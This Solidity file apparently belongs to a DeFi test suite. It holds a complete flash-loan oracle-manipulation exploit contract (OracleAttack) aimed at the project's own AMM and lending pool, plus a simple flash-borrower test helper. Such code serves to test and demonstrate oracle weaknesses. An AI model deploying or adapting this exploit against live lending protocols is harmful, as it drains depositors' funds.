// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {Amm} from "./Amm.sol";
import {FlashLender, IFlashBorrower} from "./FlashLender.sol";
import {PoolBase} from "./LendingPool.sol";

/// @title OracleAttack — oracle manipulation with flash-loaned capital: borrow the lender's
/// asset, buy the AMM's collateral with it (its spot price soars), deposit the attacker's own
/// collateral, borrow against it at the soaring price, sell the collateral bought back, repay the
/// loan and its fee, and keep the rest.
contract OracleAttack is IFlashBorrower {
    FlashLender public immutable lender;
    Amm public immutable amm;
    PoolBase public immutable pool;
    address public immutable attacker;

    error NotLender(address caller);

    constructor(FlashLender lender_, Amm amm_, PoolBase pool_) {
        (lender, amm, pool, attacker) = (lender_, amm_, pool_, msg.sender);
    }

    /// Runs the attack with `flash` of the asset on loan and `collateral` of the attacker's
    /// collateral (approved to this contract), borrowing `loot` from the pool.
    function attack(uint256 flash, uint256 collateral, uint256 loot) external {
        pool.collateral().transferFrom(attacker, address(this), collateral);
        lender.flashLoan(this, flash, abi.encode(collateral, loot));
        IERC20 asset = pool.asset();
        asset.transfer(attacker, asset.balanceOf(address(this)));
    }

    function onFlashLoan(uint256 amount, uint256 fee, bytes calldata data) external {
        if (msg.sender != address(lender)) revert NotLender(msg.sender);
        (uint256 collateral, uint256 loot) = abi.decode(data, (uint256, uint256));
        IERC20 asset = pool.asset();
        IERC20 coll = pool.collateral();
        asset.approve(address(amm), amount);
        uint256 bought = amm.swap(asset, amount, 0);
        coll.approve(address(pool), collateral);
        pool.deposit(collateral);
        pool.borrow(loot);
        coll.approve(address(amm), bought);
        amm.swap(coll, bought, 0);
        asset.transfer(address(lender), amount + fee);
    }
}

/// @title Borrower — a flash borrower that pays back what it is told to (for the lender's tests).
contract Borrower is IFlashBorrower {
    FlashLender public immutable lender;

    constructor(FlashLender lender_) {
        lender = lender_;
    }

    /// Borrows amount and pays back amount + extra (the fee, or less).
    function borrow(uint256 amount, uint256 extra) external {
        lender.flashLoan(this, amount, abi.encode(extra));
    }

    function onFlashLoan(uint256 amount, uint256, bytes calldata data) external {
        lender.token().transfer(address(lender), amount + abi.decode(data, (uint256)));
    }
}
